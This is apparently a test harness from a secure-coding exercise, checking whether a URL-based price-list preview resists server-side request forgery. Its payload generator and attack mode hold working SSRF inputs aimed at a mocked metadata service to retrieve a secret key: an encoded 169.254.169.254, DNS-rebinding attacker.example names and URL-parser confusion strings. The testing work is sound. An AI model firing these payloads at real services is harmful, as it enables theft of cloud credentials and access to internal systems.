import assert from 'node:assert/strict'
import type { RequestListener } from 'node:http'
import { openInternet } from '#proof/internet'
import type { Breach, Vary } from '#proof/vary'

type Code = typeof import('./typescript/price-list.ts')

/** Python's name for the same error. */
export const adapt = { python: (code: Record<string, unknown>) => ({ ...code, ImportError: code.ImportFailed }) }

const log = { warn: () => {} }
const metadata = '169.254.169.254'

/** What an attacker may type, who also owns names that lead inside. */
function drawForms(vary: Vary) {
  const inner = `10.${vary.number(0, 255)}.${vary.number(0, 255)}.${vary.number(1, 254)}`
  const [path, other] = [vary.word(), vary.word()]
  const number = inner.split('.').reduce((sum, part) => sum * 256 + Number(part), 0)
  const names = {
    [`${other}.internal`]: [inner],
    [`${path}.attacker.example`]: [metadata],
    [`files.exchange.example.${other}.example`]: [metadata],
    'files.exchange.example.attacker.example': [metadata],
    [`${path}exchange.example`]: [inner],
    [`${path}-lists.exchange.example.net`]: [inner],
    [`old.${other}.exchange.example`]: [inner],
    // Names that lead outside when they are checked, and inside from a later lookup on.
    ...Object.fromEntries([1, 2, 3].map((count) => [`${path}${count}.attacker.example`, [...Array<string>(count).fill('203.0.113.66'), vary.pick([inner, metadata])]])),
  }
  const forms = [
    ...[inner, metadata].map((host) => `http://${host}/latest/${path}`),
    ...Object.keys(names).map((name) => `http://${name}/${path}`),
    `http://${other}.internal:${vary.pick([8080, 9000, 8500])}/`,
    `http://${number}/${path}`,
    'http://2852039166/latest/',
    ...[inner, metadata].map((host) => `http://[::ffff:${host}]/${path}`),
    'http://0xa9fea9fe/latest/',
    'http://0251.0376.0251.0376/latest/',
    // The name of the exchange where it is not the host.
    `http://files.exchange.example@${inner}/`,
    `http://files.exchange.example:80@${inner}/`,
    `http://${path}:${other}@${inner}/lists.exchange.example`,
    `http://${inner}/files.exchange.example`,
    `http://${inner}/?list=//files.exchange.example/`,
    `http://${inner}/#//lists.exchange.example/`,
    `http://${inner}?@files.exchange.example`,
    `http://${inner}#@files.exchange.example`,
    // Spellings that parsers take apart differently.
    `http:/${inner}/files.exchange.example`,
    `http:/${inner}/lists.exchange.example/acme.csv`,
    `http:${inner}//files.exchange.example/`,
    `http://${inner}\\@files.exchange.example/`,
    `http:\\\\${inner}\\//files.exchange.example/`,
    `http:///${inner}/files.exchange.example`,
  ]
  return { inner, names, forms: vary.shuffle(forms) }
}

async function withInternet<T>(vary: Vary, run: (prices: string, secret: string, reached: string[], forms: string[]) => Promise<T>): Promise<T> {
  const prices = `L-${vary.number(1, 900)},${vary.number(1, 90)}.90`
  const secret = vary.text(20)
  const reached: string[] = []
  const { inner, names, forms } = drawForms(vary)
  const tell = (host: string): RequestListener => (_request, response) => {
    reached.push(host)
    response.writeHead(200, { 'content-type': 'text/plain' }).end(JSON.stringify({ SecretAccessKey: secret }))
  }
  const internet = await openInternet(
    { ...names, 'files.exchange.example': ['203.0.113.10'], 'lists.exchange.example': ['203.0.113.11'] },
    {
      '203.0.113.10': (request, response) => {
        const isList = /^\/(acme\.csv$|lists\/)/.test(request.url ?? '')
        response.writeHead(isList ? 200 : 302, isList ? { 'content-type': 'text/csv; charset=utf-8' } : { location: `http://${metadata}/` })
        response.end(`number,price\r\n${prices}\r\n`)
      },
      '203.0.113.11': (request, response) => {
        response.writeHead(200, { 'content-type': request.url === '/page' ? 'text/html' : 'text/plain' })
        response.end(request.url === '/big' ? 'x'.repeat(1_200_000) : 'a;b\nc;d')
      },
      [inner]: tell(inner),
      [metadata]: tell(metadata),
    },
  )
  try {
    return await run(prices, secret, reached, forms)
  } finally {
    internet.close()
  }
}

export const works = ({ previewPriceList, ImportError }: Code, vary: Vary) =>
  withInternet(vary, async (prices, _secret, reached, forms) => {
    const table = await previewPriceList(' http://files.exchange.example/acme.csv', log)
    assert.deepEqual(table.filter((line) => line !== ''), ['number,price', prices], 'A list on files.exchange.example should be shown, with spaces around its address too.')
    // What is no host says nothing about where the list is.
    const mentioned = encodeURIComponent(vary.pick(forms))
    for (const path of [`${vary.word()}.txt`, `${vary.word()}?from=${mentioned}`, `${mentioned}.txt`, `latest/${vary.word()}`, `${vary.word()}@${vary.word()}.txt`]) {
      const text = await previewPriceList(`http://lists.exchange.example/${path}`, log)
      assert.deepEqual(text.filter((line) => line !== ''), ['a;b', 'c;d'], `A plain text should be shown: http://lists.exchange.example/${path}.`)
    }
    const other = await previewPriceList(`http://files.exchange.example/lists/${vary.word()}`, log)
    assert.equal(other[1], prices, 'Any list on files.exchange.example should be shown.')
    const refused = ['no address', 'file:///etc/passwd', 'http://lists.exchange.example/big', 'http://lists.exchange.example/page', 'http://files.exchange.example/moved']
    for (const address of refused) await assert.rejects(previewPriceList(address, log), ImportError, `${address} should be refused with the error of the import.`)
    assert.deepEqual(reached, [], 'No redirect should be followed to another host.')
  })

export const exploit = ({ previewPriceList }: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> =>
  withInternet(vary, async (_prices, secret, reached, forms) => {
    for (const address of payloads ?? forms) {
      const lines = await previewPriceList(address, log).catch(() => [])
      const stolen = lines.find((line) => line.includes(secret))
      if (stolen) return { sent: address, got: stolen }
      // Services inside act on requests whose response nobody sees.
      if (reached[0]) return { sent: address, got: `a request reached ${reached[0]}, before the address was refused` }
    }
    return false
  })

// Attack mode: the learner writes the input.
export async function attack({ previewPriceList }: Code, { address }: { address: string }, vary: Vary) {
  const secret = vary.text(20)
  const files: RequestListener = (_request, response) => void response.writeHead(200, { 'content-type': 'text/csv' }).end('number,price\r\nL-100,9.90\r\n')
  const internet = await openInternet(
    { 'files.exchange.example': ['203.0.113.10'], 'lists.exchange.example': ['203.0.113.11'] },
    {
      '203.0.113.10': files,
      '203.0.113.11': files,
      [metadata]: (_request, response) => void response.writeHead(200, { 'content-type': 'text/plain' }).end(JSON.stringify({ SecretAccessKey: secret })),
    },
  )
  try {
    const lines = await previewPriceList(address, log)
    return { isDone: lines.some((line) => line.includes(secret)), shown: lines.join('\n').trim() || 'The preview is empty.' }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  } finally {
    internet.close()
  }
}

export const attacks = [
  { input: { address: 'http://169.254.169.254/latest/' }, isDone: true },
  { input: { address: 'http://files.exchange.example/acme.csv' }, isDone: false },
  { input: { address: 'ftp://169.254.169.254/latest/' }, isDone: false },
]
